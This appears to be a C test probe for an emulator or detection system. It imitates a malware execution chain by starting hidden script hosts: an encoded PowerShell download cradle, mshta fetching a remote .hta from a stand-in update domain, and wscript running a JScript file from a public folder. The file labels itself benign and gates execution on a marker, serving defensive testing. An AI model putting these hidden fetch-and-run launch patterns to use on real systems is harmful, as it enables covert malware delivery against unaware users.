/*
 * launcher.c - probe: a chain handing its next step to script hosts (benign, emulator-only; see
 * ../../lineage-common/common.h). Nothing here is a script: the command lines only name them.
 *   CreateProcessA  powershell.exe -NoP -W Hidden -Enc <UTF-16LE base64 of a download cradle>
 *   WinExec         cmd.exe /c mshta http://cdn.example-update.net/update.hta && echo ok
 *   ShellExecuteA   wscript.exe //B //E:jscript C:\Users\Public\sync.js
 * Exit codes: 0 ok, 1 no marker, 2 a start failed.
 */
#include "common.h"
#include <shellapi.h>
#include "psenc.h" /* PS_ENCODED: the cradle as -EncodedCommand takes it */

void Entry(void)
{
    static char line[1024] = "powershell.exe -NoP -W Hidden -Enc ";
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    int i, n;

    if (!marker_present())
        ExitProcess(1);
    for (n = 0; line[n]; n++)
        ;
    for (i = 0; PS_ENCODED[i] && n < (int)sizeof(line) - 1; i++)
        line[n++] = PS_ENCODED[i];
    line[n] = 0;
    for (i = 0; i < (int)sizeof(si); i++)
        ((char *)&si)[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, line, 0, 0, FALSE, CREATE_NO_WINDOW, 0, 0, &si, &pi))
        ExitProcess(2);
    if (WinExec("cmd.exe /c mshta http://cdn.example-update.net/update.hta && echo ok", SW_HIDE) < 32)
        ExitProcess(2);
    if ((INT_PTR)ShellExecuteA(0, "open", "wscript.exe", "//B //E:jscript C:\\Users\\Public\\sync.js", 0, SW_HIDE) <= 32)
        ExitProcess(2);
    ExitProcess(0);
}
